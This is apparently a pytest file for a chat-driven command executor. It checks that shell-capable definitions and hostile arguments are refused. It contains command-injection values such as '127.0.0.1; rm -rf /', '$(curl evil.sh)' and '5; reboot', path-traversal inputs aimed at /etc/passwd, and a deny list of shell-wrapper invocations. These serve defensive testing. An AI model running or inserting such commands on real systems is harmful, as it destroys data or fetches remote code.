"""Definitions that could run a shell are refused; every hostile argument is refused by its type's
checks before anything runs (option injection, traversal, NUL, newlines, look-alikes, huge values)."""
from __future__ import annotations

import os

import pytest

from smartbot.errors import CommandRejected
from smartbot.executor.catalogue import (DefinitionError, bind_args, build_argv, check_definition, parse_chat_args,
                                         redacted_argv)

ALLOW = {"allowed_hosts": ["web-1.example.com", "127.0.0.1"], "services": ["worker"]}


def allow(name: str) -> list[str]:
    return ALLOW.get(name, [])


def _spec(argv, params, **extra):
    return check_definition({"name": "t", "argv": argv, "params": params, **extra})


@pytest.mark.parametrize("argv,field,words", [
    (["sh", "-c", "df"], "argv[0]", "runs its arguments"),
    (["/bin/bash", "-lc", "df"], "argv[0]", "runs its arguments"),
    (["env", "bash", "-lc", "df"], "argv[0]", "runs another program"),
    (["sudo", "df"], "argv[0]", "runs another program"),
    (["xargs", "rm"], "argv[0]", "runs another program"),
    (["timeout", "5", "df"], "argv[0]", "runs another program"),
    (["/usr/bin/nice", "df"], "argv[0]", "runs another program"),
    (["find", "/", "-exec", "id", ";"], "argv[0]", "runs another program"),
    (["python3.11", "-V"], "argv[0]", "runs code"),
    (["/usr/bin/python3", "/opt/x.py"], "argv[0]", "runs code"),
    (["awk", "1"], "argv[0]", "runs code"),
    (["sed", "-n", "p"], "argv[0]", "runs code"),
    (["perl5.36", "-v"], "argv[0]", "runs code"),
    (["/proc/self/exe"], "argv[0]", "/proc"),
    (["/lib64/ld-linux-x86-64.so.2", "/bin/df"], "argv[0]", "runs another program"),
    (["tar", "-cf", "/tmp/x.tar", "--to-command=id", "/etc"], "argv[3]", "run a command of its own"),
    (["{cmd}"], "argv[0]", "placeholder"),
    (["/usr/bin/{cmd}"], "argv[0]", "placeholder"),
    (["bin/df"], "argv[0]", "absolute path"),
    (["ping", "-c", "3", "host={host}"], "argv[3]", "whole argv element"),
    (["python3", "-c", "{host}"], "argv[2]", "would be code"),
    (["ping", "{other}"], "argv[1]", "not a declared parameter"),
    ([], "argv", "non-empty"),
    ("df -h", "argv", "non-empty list"),
])
def test_unsafe_definitions_are_refused_naming_the_field(argv, field, words):
    with pytest.raises(DefinitionError) as err:
        _spec(argv, [{"name": "host", "type": "enum", "choices_from": "allowed_hosts"}] if "{host}" in str(argv)
              else [])
    assert err.value.field == field and words in err.value.reason


@pytest.mark.parametrize("params,field", [
    ([{"name": "x", "type": "shell"}], "params[0].type"),
    ([{"name": "X!", "type": "int", "min": 1, "max": 2}], "params[0].name"),
    ([{"name": "x", "type": "int", "min": 5, "max": 1}], "params[0].min"),
    ([{"name": "x", "type": "regex", "pattern": "("}], "params[0].pattern"),
    ([{"name": "x", "type": "path", "roots": ["relative/dir"]}], "params[0].roots"),
    ([{"name": "x", "type": "enum", "choices_from": "everything"}], "params[0].choices_from"),
    ([{"name": "x", "type": "enum", "choices": ["a"], "sneaky": 1}], "params[0].sneaky"),
])
def test_bad_parameter_definitions_name_the_key(params, field):
    with pytest.raises(DefinitionError) as err:
        _spec(["echo", "{x}"], params)
    assert err.value.field == field


def test_dangerous_environment_variables_cannot_be_passed():
    for var in ("LD_PRELOAD", "PATH", "BASH_ENV", "PYTHONPATH"):
        with pytest.raises(DefinitionError, match="cannot be passed"):
            _spec(["df"], [], env=[var])


def test_smartbots_own_variables_cannot_be_passed_when_the_caller_knows_them():
    from smartbot.executor.environment import OwnVariables

    own = OwnVariables(lambda name: name.startswith("SMARTBOT_"), frozenset({"SLACK_SIGNING_SECRET"}))
    for var in ("SMARTBOT_SECRET_KEY", "SLACK_SIGNING_SECRET"):
        with pytest.raises(DefinitionError, match="belongs to SmartBot") as err:
            check_definition({"name": "t", "argv": ["df"], "env": ["TZ", var]}, own)
        assert err.value.field == "env[1]" and err.value.unsafe
    assert check_definition({"name": "t", "argv": ["df"], "env": ["TZ"]}, own).env == ("TZ",)


def test_ordinary_programs_and_scripts_are_accepted():
    for argv in (["df", "-h"], ["/usr/bin/uptime"], ["curl", "-sS", "https://example.com"], ["ping6", "-c", "1", "::1"],
                 ["/opt/ops/bin/rotate-logs", "--dry-run"], ["sha256sum", "/etc/hostname"]):
        assert check_definition({"name": "t", "argv": argv}).argv == tuple(argv)


def test_reserved_names_are_refused():
    with pytest.raises(DefinitionError, match="reserved"):
        check_definition({"name": "approve", "argv": ["true"]})


PING = _spec(["ping", "-c", "1", "--", "{host}"], [{"name": "host", "type": "enum", "choices_from": "allowed_hosts"}])
LINES = _spec(["tail", "-n", "{n}"], [{"name": "n", "type": "int", "min": 1, "max": 500}])
WORD = _spec(["echo", "{w}"], [{"name": "w", "type": "regex", "pattern": r"\w{1,20}"}])


@pytest.mark.parametrize("spec,value,words", [
    (PING, "127.0.0.1; rm -rf /", "must be one of"),
    (PING, "$(curl evil.sh)", "must be one of"),
    (PING, "`id`", "must be one of"),
    (PING, "127.0.0.1\nrm -rf /", "control character"),
    (PING, "127.0.0.1\x00", "control character"),
    (PING, "-f", "must be one of"),
    (PING, "web-1.example.com\u200b", "control character"),     # zero-width space
    (PING, "web-1.exаmple.com", "must be one of"),               # Cyrillic а
    (LINES, "１０", "0-9"),                                       # fullwidth digits int() would take
    (LINES, "١٠", "0-9"),                                         # Arabic-Indic digits
    (LINES, "10 ", "0-9"),
    (LINES, "1_0", "0-9"),
    (LINES, "-5", "from 1 to 500"),
    (LINES, "99999999999999999999999", "0-9"),
    (LINES, "5; reboot", "0-9"),
    (WORD, "ｒｏｏｔ", "must match"),                             # \w is ASCII-only here
    (WORD, "--help", "must match"),
    (WORD, "a" * 5000, "longer than"),
])
def test_hostile_values_are_refused_with_a_reason(spec, value, words):
    with pytest.raises(CommandRejected) as err:
        build_argv(spec, bind_args(spec, [value]), allow)
    assert words in err.value.reason


def test_a_leading_dash_is_refused_unless_the_parameter_allows_it():
    spec = _spec(["grep", "--", "{p}"], [{"name": "p", "type": "regex", "pattern": "[-a-z]{1,10}"}])
    with pytest.raises(CommandRejected, match="could be read as an option"):
        build_argv(spec, {"p": "-rf"}, allow)
    lenient = _spec(["grep", "--", "{p}"], [{"name": "p", "type": "regex", "pattern": "[-a-z]{1,10}",
                                            "allow_dash": True}])
    assert build_argv(lenient, {"p": "-rf"}, allow)[0] == ["grep", "--", "-rf"]


def test_a_value_is_exactly_one_argv_element():
    spec = _spec(["echo", "{w}"], [{"name": "w", "type": "regex", "pattern": r"[ -~]{1,100}"}])
    argv, _ = build_argv(spec, bind_args(spec, parse_chat_args("'a b; $(id) `x` && y'")), allow)
    assert argv == ["echo", "a b; $(id) `x` && y"]


@pytest.fixture
def tree(tmp_path):
    root = tmp_path / "logs"
    root.mkdir()
    (root / "app.log").write_text("x\n")
    (tmp_path / "secret").write_text("s\n")
    (root / "escape").symlink_to(tmp_path / "secret")
    (root / "inside").symlink_to(root / "app.log")
    return root


def _path_spec(root):
    return _spec(["tail", "--", "{f}"], [{"name": "f", "type": "path", "roots": [str(root)]}])


@pytest.mark.parametrize("value,words", [
    ("../secret", "'..' is not allowed"),
    ("{root}/../secret", "'..' is not allowed"),
    ("{root}/escape", "not under an allowed path"),     # a symlink out of the root
    ("/etc/passwd", "not under an allowed path"),
    ("{root}/missing.log", "does not exist"),
    ("{root}/app.log\x00.txt", "control character"),
    ("{root}/app.log\n/etc/passwd", "control character"),
    ("{root}-other/app.log", "not under an allowed path"),
])
def test_paths_must_resolve_under_a_root(tree, value, words):
    spec = _path_spec(tree)
    with pytest.raises(CommandRejected) as err:
        build_argv(spec, {"f": value.replace("{root}", str(tree))}, allow)
    assert words in err.value.reason


def test_paths_inside_the_root_resolve_to_the_real_file(tree):
    spec = _path_spec(tree)
    assert build_argv(spec, {"f": "inside"}, allow)[0] == ["tail", "--", os.path.realpath(tree / "app.log")]
    assert build_argv(spec, {"f": str(tree / "app.log")}, allow)[0][-1] == str(tree / "app.log")


def test_missing_and_extra_arguments_are_explained():
    with pytest.raises(CommandRejected, match="host is missing; usage: /t <host>"):
        build_argv(PING, bind_args(PING, []), allow)
    with pytest.raises(CommandRejected, match="too many arguments"):
        bind_args(PING, ["127.0.0.1", "extra"])
    with pytest.raises(CommandRejected, match="has no parameter"):
        bind_args(PING, named={"host": "127.0.0.1", "flags": "-f"})
    with pytest.raises(CommandRejected, match="must be text"):
        build_argv(PING, {"host": ["127.0.0.1"]}, allow)
    with pytest.raises(CommandRejected, match="closing quotation"):
        parse_chat_args("'unbalanced")


def test_values_of_secret_named_parameters_are_masked_for_the_audit_log():
    spec = _spec(["login", "{user}", "{token}"], [{"name": "user", "type": "regex", "pattern": "[a-z]+"},
                                                  {"name": "token", "type": "regex", "pattern": "[a-z0-9]+"}])
    argv, values = build_argv(spec, {"user": "bob", "token": "abc123"}, allow)
    assert redacted_argv(spec, argv, values) == ["login", "bob", "***"]


def test_values_of_parameters_marked_secret_are_masked_for_the_audit_log():
    word = {"name": "word", "type": "regex", "pattern": "[a-z0-9]+", "secret": True}
    spec = _spec(["login", "{user}", "{word}"], [{"name": "user", "type": "regex", "pattern": "[a-z]+"}, word])
    assert spec.to_dict()["params"][1]["secret"] is True
    argv, values = build_argv(spec, {"user": "bob", "word": "abc123"}, allow)
    assert redacted_argv(spec, argv, values) == ["login", "bob", "***"]
    assert spec.secret_values(values) == ["abc123"]
